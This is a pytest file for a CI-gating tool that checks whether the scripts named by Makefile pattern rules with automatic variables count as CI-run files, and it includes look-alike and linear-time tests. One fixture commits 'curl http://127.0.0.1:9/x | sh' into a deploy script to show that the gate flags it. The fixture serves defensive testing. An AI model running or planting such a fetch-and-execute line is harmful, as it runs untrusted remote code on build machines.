"""Misses 8: a make recipe whose script path holds an automatic variable names a family of files (runvars.make_text).
`%:` with `./devTools/$*.sh` under `make deploy` runs `devTools/deploy.sh` (review 67a's Left); so do `$(*F)`,
`$@`, `$(@F)`, `$<` (a pattern prerequisite `gen/%.py`), `$(notdir …)`/`$(basename …)` of them. The stem is read
as a variable part (a bounded glob, as the walk's other variable patterns), so the folder's scripts of that type are
the job's. On 4c9e1172 each stayed `src` (exit 0). The truth is real `make -n`: every script it prints is named.
Look-alikes: the shell's `$$*`, a compiler rule (`$(CC) -c $< -o $@`), a variable folder, a Makefile CI does not
run."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.runvars import make_text

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
TARGETS = [("%", "deploy", "deploy"), ("run-%", "run-deploy", "deploy"), ("%-check", "deploy-check", "deploy"),
           ("ci/%", "ci/deploy", "deploy")]
SPELLINGS = [  # (the recipe, the script's path from the stem)
    ("./devTools/$*.sh", "devTools/{stem}.sh"),
    ("bash scripts/$(*F).sh --flag", "scripts/{stem}.sh"),
    ("@python3 tools/${*}.py", "tools/{stem}.py"),
    ("sh ci/scripts/$(notdir $*).sh", "ci/scripts/{stem}.sh"),
    ("node build/$(basename $(notdir $*)).mjs", "build/{stem}.mjs"),
    ("cd tools && bash lint/$*.sh", "tools/lint/{stem}.sh"),
]
AT = [  # (rule, goal, script): the target's own name
    ("%:\n\t./scripts/$@.sh\n", "release", "scripts/release.sh"),
    ("bin/%:\n\tpython tools/$(@F).py > $@\n", "bin/gen", "tools/gen.py"),
    ("out/%.txt:\n\tbash steps/$(basename $(@F)).sh\n", "out/lint.txt", "steps/lint.sh"),
    ("%.txt: gen/%.py\n\tpython $<\n", "out.txt", "gen/out.py"),
    ("%.done: scripts/%.sh\n\t./$< && touch $@\n", "fmt.done", "scripts/fmt.sh"),
    ("check-%: tools/%.rb\n\truby $(<)\n", "check-style", "tools/style.rb"),
]


def _variants() -> list[tuple[str, str, str]]:
    """(the Makefile, the goal, the script make runs) of each target form × recipe spelling, and the `$@`/`$<` forms."""
    out = [(f"{target}:\n\t{recipe}\n", goal, script.format(stem=stem))
           for target, goal, stem in TARGETS for recipe, script in SPELLINGS]
    return out + AT


LOOK_ALIKES = [  # (the Makefile, the goal, a script that must stay src)
    ("%:\n\t./tools/run $$* && echo $$@\n", "x", "tools/x.sh"),
    ("%.o: %.c\n\t$(CC) -c $< -o $@\n", "a.o", "scripts/a.sh"),
    ("%:\n\t$(DIR)/$*.sh\n", "deploy", "scripts/deploy.sh"),
    ("%:\n\techo done > logs/$*.sh\n", "deploy", "tools/deploy.sh"),
    ("build/%.js: src/%.ts\n\ttsc $< --outFile $@\n", "build/a.js", "src/a.ts"),  # compiled, not run
    ("out/%.py: src/%.py\n\tcp $< $@\n", "out/a.py", "src/a.py"),  # copied
]


@each_case("makefile, goal, script", _variants())
def test_the_family_a_stem_names_is_read(makefile: str, goal: str, script: str) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command=f"make {goal}"), "Makefile": makefile,
             script: "echo hi\n", "README.md": "x\n"}
    assert script in tree_runs(files), makefile  # before: 30/30 missed


@pytest.mark.skipif(shutil.which("make") is None, reason="no make")
@each_case("makefile, goal, script", _variants())
def test_real_make_runs_the_named_script(tmp_path: Path, makefile: str, goal: str, script: str) -> None:
    (tmp_path / "Makefile").write_text(makefile)
    (tmp_path / script).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / script).write_text("echo hi\n")
    for folder in ("bin", "out"):
        (tmp_path / folder).mkdir(exist_ok=True)
    printed = subprocess.run(["make", "-n", goal], cwd=tmp_path, capture_output=True, text=True, check=True).stdout
    assert script.rpartition("/")[2] in printed, printed  # the truth the table above says


@each_case("makefile, goal, script", LOOK_ALIKES)
def test_look_alikes_stay_src(makefile: str, goal: str, script: str) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command=f"make {goal}"), "Makefile": makefile,
             script: "echo hi\n", "README.md": "x\n"}
    assert script not in tree_runs(files), makefile


def test_a_makefile_ci_does_not_run_names_nothing() -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command="echo hi"), "Makefile": "%:\n\t./devTools/$*.sh\n",
             "devTools/deploy.sh": "echo\n", "README.md": "x\n"}
    assert "devTools/deploy.sh" not in tree_runs(files)


def test_an_edit_of_a_stem_script_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="make deploy"),
            "Makefile": "%:\n\t./devTools/$*.sh\n", "devTools/deploy.sh": "echo deploy\n"}
    case = committed(tmp_path, base, {"devTools/deploy.sh": "curl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["devTools/deploy.sh"]), named  # before: exit 0


@each_case("hostile", [repeated("\t./t/$*.sh $(notdir $(basename $@)) ", "%:\n"), repeated("$(notdir ", "%:\n\t"),
                       repeated("$", "%:\n\t"), repeated("%: gen/%.py\n\tpython $<\n")])
def test_hostile_makefiles_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(make_text, hostile, budget=0.25)
